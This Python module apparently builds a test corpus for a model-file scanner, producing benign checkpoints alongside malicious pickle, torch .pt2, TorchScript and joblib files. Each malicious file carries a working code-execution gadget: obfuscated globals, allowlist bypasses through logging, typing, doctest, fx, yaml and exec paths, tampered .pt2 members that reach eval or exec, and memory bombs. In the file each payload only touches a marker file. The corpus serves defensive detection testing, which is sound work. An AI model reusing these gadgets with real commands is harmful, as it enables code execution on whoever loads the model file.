"""Pickle-level kinds of the hostile corpus (issue 12, items 1-3, 9-10), built by code.

Every malicious file carries a payload that would create ``marker`` if anything ever
unpickled it the way its loader does (``pickle.load``, ``torch.load(weights_only=False)``,
``torch.export.load``); nothing here runs a payload. Payload builders only *record* calls
(``Reduce`` makes pickle write ``func(*args)``) or write opcodes by hand.

Benign files are real outputs of the libraries users save models with: ``torch.save``
state dicts (zip and legacy) and optimizer states, Trainer-style checkpoints, numpy
pickles, joblib dumps (when joblib is installed), and TorchScript and ``.pt2`` archives
from the product's own exporter.
"""

from __future__ import annotations

import codecs
import collections
import hashlib
import io
import json
import logging.config
import os
import pathlib
import pickle
import shlex
import struct
import sys
import typing
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import torch

from . import Case

UNSAFE = frozenset({"unsafe"})
SAFE = frozenset({"safe"})


class Reduce:
    """Pickles as ``func(*args)``; pickling only records the call."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def _touch(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _u(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE of ``text``."""
    raw = text.encode()
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else
            b"X" + struct.pack("<I", len(raw))) + raw


def _call1(arg: str) -> bytes:
    """Push ``arg``, make a 1-tuple, REDUCE, STOP."""
    return _u(arg) + b"\x85R."


def _write(directory: Path, name: str, data: bytes) -> Path:
    path = directory / name
    path.write_bytes(data)
    return path


def _reduce_file(name: str, make: Callable[[Path, Path], Any], protocol: int = 2
                 ) -> Callable[[Path, Path], Path]:
    def build(directory: Path, marker: Path) -> Path:
        return _write(directory, name, pickle.dumps(make(directory, marker), protocol=protocol))
    return build


# --------------------------------------------------------------------- 12.2 spellings


def _dotted_stack_global(module: str, name: str) -> Callable[[Path, Path], Path]:
    def build(directory: Path, marker: Path) -> Path:
        data = b"\x80\x04" + _u(module) + _u(name) + b"\x93" + _call1(_touch(marker))
        return _write(directory, "dotted.pkl", data)
    return build


def _dotted_global_opcode(directory: Path, marker: Path) -> Path:
    # GLOBAL (protocol-0 opcode) under PROTO 4: the unpickler follows the dotted name.
    data = b"\x80\x04clogging\nos.system\n" + _call1(_touch(marker))
    return _write(directory, "dotted_global.pkl", data)


def _escaped_string_stack_global(directory: Path, marker: Path) -> Path:
    # STRING arguments are unescaped by the unpickler: '\x70osix' is 'posix'.
    cmd = _touch(marker).replace("'", "")
    data = b"S'\\x70osix'\nS'sys\\x74em'\n\x93S'" + cmd.encode() + b"'\n\x85R."
    return _write(directory, "escaped.pkl", data)


def _memo_stack_global(directory: Path, marker: Path) -> Path:
    # Module and name are memoised and popped, then fetched back for STACK_GLOBAL.
    data = (b"\x80\x04" + _u("posix") + b"\x94" + b"0" + _u("nothing") + b"0"
            + _u("system") + b"\x94" + b"0" + b"h\x00h\x01\x93" + _call1(_touch(marker)))
    return _write(directory, "memo.pkl", data)


def _legacy_with_zip_appended(directory: Path, marker: Path) -> Path:
    # torch.load decides zip or legacy by the first bytes: it reads the leading pickle.
    buffer = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buffer)
    evil = pickle.dumps(Reduce(os.system, _touch(marker)), protocol=2)
    return _write(directory, "model.pt", evil + buffer.getvalue())


def _legacy_protocol0_object(directory: Path, marker: Path) -> Path:
    # A legacy torch.save stream (magic, protocol, sys info, object …) whose fourth
    # pickle, the object, is protocol 0: a walker that stops after the first misses it.
    magic = 0x1950A86A20F9469CFC6C
    head = b"".join(pickle.dumps(x, protocol=2) for x in (
        magic, 1001, {"protocol_version": 1001, "little_endian": True,
                      "type_sizes": {"short": 2, "int": 4, "long": 4}}))
    cmd = _touch(marker).replace("'", "")
    body = b"cposix\nsystem\n(S'" + cmd.encode() + b"'\ntR."
    return _write(directory, "legacy.pth", head + body + pickle.dumps([], protocol=2))


# --------------------------------------------------------------------- 12.3 gadgets


def _dict_config(directory: Path, marker: Path) -> Any:
    return Reduce(logging.config.dictConfig, {
        "version": 1, "handlers": {"h": {"()": "subprocess.getoutput",
                                         "cmd": _touch(marker)}},
        "root": {"handlers": ["h"]}})


def _type_hints(directory: Path, marker: Path) -> Any:
    ns = SimpleNamespace(__annotations__={
        "x": f"__import__('os').system({_touch(marker)!r})"})
    return Reduce(typing.get_type_hints, ns)


def _doctest(directory: Path, marker: Path) -> Any:
    import doctest

    return Reduce(doctest.run_docstring_examples,
                  f">>> __import__('os').system({_touch(marker)!r})\n", {})


def _spawn(directory: Path, marker: Path) -> Any:
    from setuptools._distutils.spawn import spawn

    return Reduce(spawn, ["touch", str(marker)])


def _fx(directory: Path, marker: Path) -> Any:
    from torch.fx.graph_module import reduce_graph_module

    return Reduce(reduce_graph_module, {"_code": "def forward(self):\n    pass\n"},
                  f"import os\nos.system({_touch(marker)!r})\n")


def _yaml(directory: Path, marker: Path) -> Any:
    import yaml

    return Reduce(yaml.unsafe_load,
                  f"!!python/object/apply:os.system [{json.dumps(_touch(marker))}]")


def _codecs_open(directory: Path, marker: Path) -> Any:
    return Reduce(codecs.open, str(marker), "w")


def _write_text(directory: Path, marker: Path) -> Any:
    return Reduce(pathlib.Path.write_text, pathlib.Path(marker), "pwned")


def _hub(directory: Path, marker: Path) -> Any:
    (directory / "hubconf.py").write_text(
        f"import pathlib\npathlib.Path({str(marker)!r}).touch()\n\n"
        "def model():\n    return None\n")
    return Reduce(torch.hub._load_local, str(directory), "model")


def _fork_exec(directory: Path, marker: Path) -> Any:
    import _posixsubprocess

    # Python 3.11-3.13 signature; errpipe_read=0 / errpipe_write=2 keep the child alive.
    args = ([b"/bin/sh", b"-c", _touch(marker).encode()], (b"/bin/sh",), False, (), None,
            None, -1, -1, -1, -1, -1, -1, 0, 2, False, False, -1, None, None, None, -1,
            None, False)
    return Reduce(_posixsubprocess.fork_exec, *args)


def _torch_module_beside(directory: Path, marker: Path) -> Path:
    # ``__torch__`` names TorchScript classes, which only TorchScript's own unpickler
    # resolves; pickle imports it like any module, from a __torch__.py beside the file.
    (directory / "__torch__.py").write_text(
        f"import pathlib\npathlib.Path({str(marker)!r}).touch()\n\nclass Model:\n"
        "    pass\n")
    return _write(directory, "model.pkl", b"\x80\x02c__torch__\nModel\n)\x81.")


def _dunder_path(module: str, path: str) -> Callable[[Path, Path], Path]:
    """``module.path`` resolves to ``dict.get`` of the builtins: get('exec')(code)."""
    def build(directory: Path, marker: Path) -> Path:
        code = f"import os\nos.system({_touch(marker)!r})"
        data = (b"\x80\x04" + _u(module) + _u(path) + b"\x93" + _u("exec") + b"\x85R"
                + _u(code) + b"\x85R.")
        return _write(directory, "dunder.pkl", data)
    return build


# --------------------------------------------------------------------- 12.1 pt2


def _real_pt2(directory: Path, name: str = "model.pt2") -> Path:
    model = torch.nn.Linear(4, 2).eval()
    program = torch.export.export(model, (torch.randn(1, 4),))
    path = directory / name
    torch.export.save(program, str(path))
    return path


def _rewrite_zip(path: Path, change: Callable[[str, bytes], bytes | None],
                 extra: dict[str, bytes] | None = None) -> None:
    with zipfile.ZipFile(path) as archive:
        items = [(i.filename, archive.read(i)) for i in archive.infolist()]
    root = items[0][0].split("/", 1)[0]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in items:
            new = change(name.split("/", 1)[1], data)
            archive.writestr(name, data if new is None else new)
        for name, data in (extra or {}).items():
            archive.writestr(f"{root}/{name}", data)


def _pt2_use_pickle_weight(directory: Path, marker: Path) -> Path:
    path = _real_pt2(directory)
    evil = pickle.dumps(Reduce(os.system, _touch(marker)), protocol=2)
    config_name = "data/weights/model_weights_config.json"

    def change(name: str, data: bytes) -> bytes | None:
        if name == config_name:
            config = json.loads(data)
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            return json.dumps(config).encode()
        if name == "data/weights/weight_0":
            return evil
        return None

    _rewrite_zip(path, change)
    return path


def _pt2_opaque_constant(directory: Path, marker: Path) -> Path:
    path = _real_pt2(directory)
    evil = pickle.dumps(Reduce(os.system, _touch(marker)), protocol=2)

    def change(name: str, data: bytes) -> bytes | None:
        if name == "data/constants/model_constants_config.json":
            return json.dumps({"config": {"c": {"path_name": "opaque_obj_0",
                                                "is_param": False, "use_pickle": True,
                                                "tensor_meta": None}}}).encode()
        return None

    _rewrite_zip(path, change, {"data/constants/opaque_obj_0": evil})
    return path


def _pt2_case_insensitive_constant(directory: Path, marker: Path) -> Path:
    # torch finds members case-insensitively: the opaque constant "opaque_obj_0" that it
    # pickle.loads is the member another entry declares raw as "OPAQUE_OBJ_0".
    path = _real_pt2(directory)
    evil = pickle.dumps(Reduce(os.system, _touch(marker)), protocol=2)
    meta = {"dtype": 1, "sizes": [{"as_int": 1}], "requires_grad": False,  # uint8
            "device": {"type": "cpu", "index": None}, "strides": [{"as_int": 1}],
            "storage_offset": {"as_int": 0}, "layout": 7}
    config = {"config": {
        "c": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
              "tensor_meta": None},
        "d": {"path_name": "OPAQUE_OBJ_0", "is_param": False, "use_pickle": False,
              "tensor_meta": meta}}}

    def change(name: str, data: bytes) -> bytes | None:
        if name == "data/constants/model_constants_config.json":
            return json.dumps(config).encode()
        return None

    _rewrite_zip(path, change, {"data/constants/OPAQUE_OBJ_0": evil})
    return path


def _pt2_legacy_weights(directory: Path, marker: Path) -> Path:
    # data/weights/model.pt is read as a legacy weights file and torch.load-ed, falling
    # back to weights_only=False when the restricted load fails.
    path = _real_pt2(directory)
    evil = pickle.dumps(Reduce(os.system, _touch(marker)), protocol=2)
    _rewrite_zip(path, lambda name, data: None, {"data/weights/model.pt": evil})
    return path


def _pt2_sample_inputs(directory: Path, marker: Path) -> Path:
    path = _real_pt2(directory)
    evil = pickle.dumps(Reduce(os.system, _touch(marker)), protocol=2)
    _rewrite_zip(path, lambda name, data: evil if name == "data/sample_inputs/model.pt"
                 else None)
    return path


def _pt2_program(edit: Callable[[dict[str, Any], Path], None]) -> Callable[[Path, Path], Path]:
    """A real ``.pt2`` whose serialized program (``models/model.json``) ``edit`` changes:
    torch turns some of its strings into code (sympy ``eval``, guards ``exec``)."""
    def build(directory: Path, marker: Path) -> Path:
        path = _real_pt2(directory)

        def change(name: str, data: bytes) -> bytes | None:
            if name.startswith("models/") and name.endswith(".json"):
                doc = json.loads(data)
                edit(doc, marker)
                return json.dumps(doc).encode()
            return None

        _rewrite_zip(path, change)
        return path
    return build


def _guards_code(doc: dict[str, Any], marker: Path) -> None:
    # ExportedProgram.module() exec's the guards into a function every forward runs.
    doc["guards_code"] = [f"__import__('os').system({_touch(marker)!r}) == 0"]


def _sympy_size(doc: dict[str, Any], marker: Path) -> None:
    # torch.export.load sympify()s every expr_str: eval, with sympy's names in scope.
    tensors = doc["graph_module"]["graph"]["tensor_values"]
    code = (f"Integer.__new__.__globals__['__builtins__']['__import__']('os')"
            f".system({_touch(marker)!r})")
    for meta in tensors.values():
        meta["sizes"][0] = {"as_expr": {"expr_str": code, "hint": {"as_int": 1}}}


def _guard_quote_injection(doc: dict[str, Any], marker: Path) -> None:
    # No dunder, no import in sight: torch pastes the guard, unparsed, into a "..."
    # message literal; a string constant holding a double quote breaks out of it.
    command = list(_touch(marker).encode())
    code = f"import os;os.system(bytes({command}).decode())"
    doc["guards_code"] = [f"1 == 1 or 'a\"+str(exec(\"{code}\"))+\"a'"]


def _placeholder_default(doc: dict[str, Any], marker: Path) -> None:
    # Graph input names become the parameters of the forward torch.fx generates and
    # exec's inside torch.export.load: a name with "=" gives the parameter a default.
    specs = doc["graph_module"]["signature"]["input_specs"]
    user = next(s["user_input"]["arg"]["as_tensor"]["name"] for s in specs
                if "user_input" in s)
    name = f"{user}=__import__('os').system({_touch(marker)!r})"
    text = json.dumps(doc).replace(json.dumps({"name": user}), json.dumps({"name": name})) \
        .replace(json.dumps(user) + ":", json.dumps(name) + ":")  # tensor_values' key
    doc.clear()
    doc.update(json.loads(text))


def _dynamic_pt2(directory: Path, marker: Path) -> Path:
    """A benign ``.pt2`` with a derived dynamic dim: guards and sympy expressions."""
    class Head(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.linear = torch.nn.Linear(4, 2)

        def forward(self, x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
            return self.linear(x).sum() + y[: x.shape[0] // 2].sum()

    half = torch.export.Dim("half", min=1, max=32)
    program = torch.export.export(Head(), (torch.ones(4, 4), torch.ones(8)),
                                  dynamic_shapes={"x": {0: 2 * half}, "y": {0: 4 * half}})
    path = directory / "dynamic.pt2"
    torch.export.save(program, str(path))
    return path


# --------------------------------------------------------------------- 12.5 load-time bombs

#: The real gadget is ``set(range(10**12))`` (unbounded memory while torch.load runs); the
#: corpus keeps a million so a regression costs a second, not the machine.
_BOMB = 10**6


def _consuming_bomb(make: Callable[[], Any]) -> Callable[[Path, Path], Path]:
    """A state dict one of whose values is an allowlisted constructor fed a computed
    object (or a size) instead of a literal: safe reconstructors, unbounded cost."""
    def build(directory: Path, marker: Path) -> Path:
        state = {"weight": [1.0, 2.0], "extra": make()}
        return _write(directory, "bomb.pt", pickle.dumps(state, protocol=2))
    return build


def _alias_list_bomb(directory: Path, marker: Path) -> Path:
    # ``NodeList = list[Node]``: a GenericAlias re-exported by torch, named like list and
    # called like list, so ``NodeList(range(n))`` is list(range(n)) under another name.
    import torch.fx.passes.tools_common  # noqa: F401 - imported, as a process using fx has

    data = (b"\x80\x04" + _u("torch.fx.passes.tools_common") + _u("NodeList") + b"\x93"
            + _u("builtins") + _u("range") + b"\x93" + b"J" + struct.pack("<i", _BOMB)
            + b"\x85R\x85R.")
    return _write(directory, "alias.pt", data)


# --------------------------------------------------------------------- TorchScript code


class _FromFileOnLoad(torch.nn.Module):
    """``torch.jit.load`` runs ``__setstate__``: ``from_file(shared=True)`` creates the
    file it names."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * 2

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.target = state[0]
        self.training = torch.from_file(state[0], shared=True, size=4).numel() > 0


class _SaveOnForward(torch.nn.Module):
    """``torch.save`` is a TorchScript operator: every forward writes the file."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, self.target)
        return x * 2


def _torchscript_io(module: type[torch.nn.Module]) -> Callable[[Path, Path], Path]:
    def build(directory: Path, marker: Path) -> Path:
        path = directory / "scripted.pt"
        torch.jit.script(module(str(marker))).save(str(path))
        return path
    return build


def _torchscript_upper_case(directory: Path, marker: Path) -> Path:
    # torch.jit.load finds members case-insensitively: code/ renamed CODE/...PY still runs.
    path = _torchscript_io(_FromFileOnLoad)(directory, marker)
    with zipfile.ZipFile(path) as archive:
        items = [(i.filename, archive.read(i)) for i in archive.infolist()]
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in items:
            root, _, rest = name.partition("/")
            archive.writestr(f"{root}/{rest.upper()}" if rest.startswith("code/") else name,
                             data)
    return path


# --------------------------------------------------------------------- benign


def _mlp() -> torch.nn.Module:
    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))


def _state_dict(legacy: bool) -> Callable[[Path, Path], Path]:
    def build(directory: Path, marker: Path) -> Path:
        path = directory / ("legacy.pth" if legacy else "state.pt")
        torch.save(_mlp().state_dict(), path, _use_new_zipfile_serialization=not legacy)
        return path
    return build


def _optimizer(directory: Path, marker: Path) -> Path:
    model = _mlp()
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.randn(3, 4)).sum().backward()
    opt.step()
    path = directory / "optimizer.pt"
    torch.save({"optimizer": opt.state_dict(), "epoch": 3}, path)
    return path


def _trainer_checkpoint(directory: Path, marker: Path) -> Path:
    path = directory / "checkpoint.pt"
    torch.save({"model": _mlp().state_dict(), "trainer_state": {
        "_commit_hash": hashlib.sha1(b"config").hexdigest(), "run_id": uuid.uuid4().hex,
        "data_fingerprint": hashlib.sha256(b"dataset").hexdigest(), "global_step": 120,
        "best_metric": 0.91}}, path)
    return path


def _numpy_pickle(protocol: int) -> Callable[[Path, Path], Path]:
    def build(directory: Path, marker: Path) -> Path:
        data = {"a": np.arange(12, dtype=np.float32).reshape(3, 4), "b": np.int64(7),
                "mask": np.array([True, False]), "dt": np.dtype("float16")}
        return _write(directory, f"arrays_p{protocol}.pkl", pickle.dumps(data, protocol))
    return build


class _ExtraState(torch.nn.Module):
    """A module whose extra state holds numpy scalars and a dtype (issue 12.10)."""

    def __init__(self) -> None:
        super().__init__()
        self.linear = torch.nn.Linear(4, 2)

    def get_extra_state(self) -> Any:
        return {"step": np.int64(3), "lr": np.float32(0.1), "dtype": np.dtype("float32")}

    def set_extra_state(self, state: Any) -> None:
        self.extra = state


def _numpy_extra_state(directory: Path, marker: Path) -> Path:
    path = directory / "ckpt.pt"
    torch.save(_ExtraState().state_dict(), path)
    return path


def _joblib(directory: Path, marker: Path) -> Path:
    import joblib

    path = directory / "arrays.joblib"
    joblib.dump({"a": np.arange(10.0), "b": np.ones((3, 3), dtype=np.int32),
                 "c": np.array(["x", "yz"])}, path)
    return path


def _joblib_objects(directory: Path, marker: Path) -> Path:
    import joblib

    path = directory / "objects.joblib"
    joblib.dump({"o": np.array([1, "a", None], dtype=object), "t": np.arange(4)}, path)
    return path


def _joblib_object_payload(directory: Path, marker: Path) -> Path:
    # An object array is a nested pickle inside joblib's stream, after raw array bytes.
    import joblib

    path = directory / "evil.joblib"
    joblib.dump({"head": np.arange(6.0),
                 "o": np.array([1, Reduce(os.system, _touch(marker))], dtype=object)}, path)
    return path


def _tb_export(fmt: str, name: str) -> Callable[[Path, Path], Path]:
    def build(directory: Path, marker: Path) -> Path:
        from torchbridge.core.subject import Subject
        from torchbridge.export import ExportOptions, export_model

        subject = Subject(_mlp().eval(), torch.randn(2, 4))
        path = directory / name
        export_model(subject, fmt, path, ExportOptions(validate=False))
        return path
    return build


def _whole_module(directory: Path, marker: Path) -> Path:
    path = directory / "module.pt"
    torch.save(_mlp(), path)
    return path


def _importable(module: str) -> bool:
    try:
        __import__(module)
    except ImportError:
        return False
    return True


def _cases() -> list[Case]:
    spell, gadget, pt2 = "12.2 global spellings", "12.3 allowlist", "12.1 pt2 members"
    cases = [
        Case("posix_system", gadget, True, UNSAFE,
             _reduce_file("system.pkl", lambda d, m: Reduce(os.system, _touch(m)))),
        Case("dotted_torch_serialization_os_system", spell, True, UNSAFE,
             _dotted_stack_global("torch.serialization", "os.system")),
        Case("dotted_logging_os_system", spell, True, UNSAFE,
             _dotted_stack_global("logging", "os.system")),
        Case("dotted_global_opcode", spell, True, UNSAFE, _dotted_global_opcode),
        Case("escaped_string_stack_global", spell, True, UNSAFE,
             _escaped_string_stack_global),
        Case("memo_stack_global", spell, True, UNSAFE, _memo_stack_global),
        Case("legacy_pickle_with_zip_appended", spell, True, UNSAFE,
             _legacy_with_zip_appended),
        Case("legacy_protocol0_object", spell, True, UNSAFE, _legacy_protocol0_object),
        Case("logging_dictconfig_factory", gadget, True, UNSAFE,
             _reduce_file("dictconfig.pkl", _dict_config)),
        Case("typing_get_type_hints", gadget, True, UNSAFE,
             _reduce_file("hints.pkl", _type_hints, protocol=4)),
        Case("doctest_run_docstring_examples", gadget, True, UNSAFE,
             _reduce_file("doctest.pkl", _doctest)),
        Case("fx_reduce_graph_module", gadget, True, UNSAFE,
             _reduce_file("fx.pt", _fx)),
        Case("codecs_open_write", gadget, True, UNSAFE,
             _reduce_file("codecs.pkl", _codecs_open)),
        Case("pathlib_write_text", gadget, True, UNSAFE,
             _reduce_file("write_text.pkl", _write_text, protocol=4)),
        Case("torch_hub_load_local", gadget, True, UNSAFE, _reduce_file("hub.pt", _hub)),
        Case("torch_module_beside_plain_pickle", gadget, True, UNSAFE,
             _torch_module_beside),
        Case("dunder_numpy_builtins", gadget, True, UNSAFE,
             _dunder_path("numpy", "__builtins__.get")),
        Case("dunder_print_self", gadget, True, UNSAFE,
             _dunder_path("builtins", "print.__self__.__dict__.get")),
        Case("pt2_use_pickle_weight", pt2, True, UNSAFE, _pt2_use_pickle_weight),
        Case("pt2_opaque_constant", pt2, True, UNSAFE, _pt2_opaque_constant),
        Case("pt2_legacy_weights_file", pt2, True, UNSAFE, _pt2_legacy_weights),
        Case("pt2_sample_inputs", pt2, True, UNSAFE, _pt2_sample_inputs),
        Case("pt2_case_insensitive_constant", pt2, True, UNSAFE,
             _pt2_case_insensitive_constant),
        Case("pt2_guards_code_exec", pt2, True, UNSAFE, _pt2_program(_guards_code)),
        Case("pt2_sympy_expr_eval", pt2, True, UNSAFE, _pt2_program(_sympy_size)),
        Case("pt2_guard_quote_injection", pt2, True, UNSAFE,
             _pt2_program(_guard_quote_injection)),
        Case("pt2_placeholder_name_code", pt2, True, UNSAFE,
             _pt2_program(_placeholder_default)),
        Case("pt2_dynamic_shapes", "benign", False, SAFE, _dynamic_pt2),
        Case("set_of_range_bomb", "12.5 limits", True, UNSAFE,
             _consuming_bomb(lambda: Reduce(set, Reduce(range, 0, _BOMB)))),
        Case("deque_of_range_bomb", "12.5 limits", True, UNSAFE,
             _consuming_bomb(lambda: Reduce(collections.deque, Reduce(range, _BOMB)))),
        Case("torch_size_of_range_bomb", "12.5 limits", True, UNSAFE,
             _consuming_bomb(lambda: Reduce(torch.Size, Reduce(range, _BOMB)))),
        Case("bytearray_size_bomb", "12.5 limits", True, UNSAFE,
             _consuming_bomb(lambda: Reduce(bytearray, _BOMB))),
        Case("generic_alias_list_bomb", "12.5 limits", True, UNSAFE, _alias_list_bomb),
        Case("torchscript_from_file_on_load", gadget, True, UNSAFE,
             _torchscript_io(_FromFileOnLoad)),
        Case("torchscript_code_upper_case", gadget, True, UNSAFE, _torchscript_upper_case),
        Case("torchscript_save_on_forward", gadget, True, UNSAFE,
             _torchscript_io(_SaveOnForward)),
        Case("state_dict_zip", "benign", False, SAFE, _state_dict(legacy=False)),
        Case("state_dict_legacy", "benign", False, SAFE, _state_dict(legacy=True)),
        Case("optimizer_state", "benign", False, SAFE, _optimizer),
        Case("trainer_checkpoint", "12.9 false positives", False, SAFE,
             _trainer_checkpoint),
        Case("numpy_extra_state", "12.10 numpy in state dict", False, SAFE,
             _numpy_extra_state),
        Case("torchscript_tb_export", "12.9 false positives", False, SAFE,
             _tb_export("torchscript", "model.ts.pt")),
        Case("pt2_tb_export", "benign", False, SAFE, _tb_export("pt2", "model.pt2")),
        Case("whole_torch_module", "12.3 allowlist", False, frozenset({"code"}),
             _whole_module),
        *[Case(f"numpy_pickle_p{p}", "benign", False, SAFE, _numpy_pickle(p))
          for p in (2, 4, 5)],
    ]
    if sys.platform != "win32" and sys.version_info[:2] in ((3, 11), (3, 12), (3, 13)):
        cases.append(Case("posixsubprocess_fork_exec", gadget, True, UNSAFE,
                          _reduce_file("fork.pkl", _fork_exec)))
    if _importable("setuptools._distutils.spawn"):
        cases.append(Case("setuptools_spawn", gadget, True, UNSAFE,
                          _reduce_file("spawn.pkl", _spawn)))
    if _importable("yaml"):
        cases.append(Case("yaml_unsafe_load", gadget, True, UNSAFE,
                          _reduce_file("yaml.pkl", _yaml)))
    if _importable("joblib"):
        cases += [
            Case("joblib_arrays", "12.9 false positives", False, SAFE, _joblib),
            Case("joblib_object_array", "12.9 false positives", False, SAFE,
                 _joblib_objects),
            Case("joblib_object_array_payload", gadget, True, UNSAFE, _joblib_object_payload),
        ]
    return cases


CASES: list[Case] = _cases()
